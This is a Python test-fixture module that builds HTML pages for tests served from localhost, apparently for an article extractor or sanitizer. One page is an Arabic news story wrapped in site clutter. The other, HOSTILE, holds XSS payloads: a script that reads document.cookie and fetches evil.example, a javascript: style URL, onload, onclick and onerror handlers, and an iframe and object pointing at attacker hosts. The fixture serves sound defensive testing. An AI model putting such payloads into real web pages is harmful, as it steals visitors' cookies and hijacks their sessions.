"""Real HTML pages the tests serve from 127.0.0.1."""

ARTICLE_PARAGRAPHS = [
    "قال مسؤولون محليون إن أربعة مدنيين قتلوا وأصيب سبعة آخرون في قصف استهدف بلدة يفلاخ صباح الثلاثاء.",
    "وأكدت وزارة الدفاع في بيان أن الممرات الإنسانية ستفتح غداً أمام السكان الراغبين في المغادرة.",
    "وأضاف المتحدث باسم الوزارة أن فرق الإنقاذ ما زالت تعمل في المنطقة منذ ساعات الصباح الأولى.",
]

NAV = ["الرئيسية", "سياسة", "اقتصاد", "رياضة", "منوعات", "اتصل بنا"]
AD = "إعلان ممول: احصل على خصم خمسين بالمئة على الهواتف الذكية اليوم فقط"
COMMENT = "تعليق القارئ: هذا الخبر مفبرك ولا أصدق كلمة منه"
FOOTER = "جميع الحقوق محفوظة لموقع الأخبار العربية ٢٠٢٣"

ARABIC_NEWS = """<!DOCTYPE html>
<html lang="ar" dir="rtl">
<head>
<meta charset="{charset}">
<title>قتلى مدنيون في قصف على يفلاخ | موقع الأخبار العربية</title>
<meta name="author" content="سارة الأحمد">
<meta property="og:site_name" content="موقع الأخبار العربية">
<meta property="og:title" content="قتلى مدنيون في قصف على يفلاخ">
<meta property="article:published_time" content="2023-09-20T08:30:00+03:00">
<link rel="stylesheet" href="/style.css">
<script src="/tracker.js"></script>
</head>
<body>
<header class="site-header">
  <div class="logo">موقع الأخبار العربية</div>
  <nav class="main-nav"><ul>{nav}</ul></nav>
</header>
<div class="ad-banner advertisement" id="ad-top"><a href="/ad">{ad}</a></div>
<main>
<article class="article-body">
  <h1>قتلى مدنيون في قصف على يفلاخ</h1>
  <div class="byline">بقلم سارة الأحمد — <time datetime="2023-09-20">٢٠ سبتمبر ٢٠٢٣</time></div>
  {paragraphs}
</article>
<aside class="sidebar"><h3>الأكثر قراءة</h3><ul>
  <li><a href="/1">ارتفاع أسعار الذهب في الأسواق المحلية</a></li>
  <li><a href="/2">فوز المنتخب في مباراة ودية</a></li></ul>
  <div class="ad advertisement">{ad}</div></aside>
<section id="comments" class="comments">
  <h3>التعليقات</h3>
  <div class="comment"><p>{comment}</p></div>
</section>
</main>
<footer class="site-footer"><p>{footer}</p><nav><a href="/privacy">سياسة الخصوصية</a></nav></footer>
</body>
</html>
"""


def arabic_news(charset: str = "utf-8") -> bytes:
    html = ARABIC_NEWS.format(
        charset=charset,
        nav="".join(f'<li><a href="/{i}">{n}</a></li>' for i, n in enumerate(NAV)),
        ad=AD, comment=COMMENT, footer=FOOTER,
        paragraphs="\n  ".join(f"<p>{p}</p>" for p in ARTICLE_PARAGRAPHS))
    return html.encode(charset, errors="xmlcharrefreplace")


SCRIPT_TEXT = "STOLEN_COOKIE_MARKER"
IFRAME_TEXT = "IFRAME_FALLBACK_MARKER"
HANDLER_TEXT = "ONCLICK_MARKER"

HOSTILE = f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Minister denies the figures</title>
<script>document.cookie; fetch('https://evil.example/?c=' + '{SCRIPT_TEXT}');</script>
<style>body {{ background: url(javascript:alert(1)) }}</style>
</head>
<body onload="alert('{HANDLER_TEXT}')">
<article>
<h1>Minister denies the figures</h1>
<p onclick="alert('{HANDLER_TEXT}')" onmouseover="steal()">The minister said on Monday that the
unemployment rate fell to 7 percent in the second quarter, according to the statistics office.</p>
<iframe src="https://evil.example/frame" onload="x()">{IFRAME_TEXT}</iframe>
<p>Opposition lawmakers said the office had changed how it counts people out of work in 2022,
which makes the two figures impossible to compare.</p>
<object data="evil.swf"><p>{IFRAME_TEXT} object</p></object>
<noscript><p>{SCRIPT_TEXT} noscript</p></noscript>
<img src="x.png" onerror="alert('{HANDLER_TEXT}')">
<script>document.write('<p>{SCRIPT_TEXT} injected</p>')</script>
</article>
</body></html>
""".encode("utf-8")
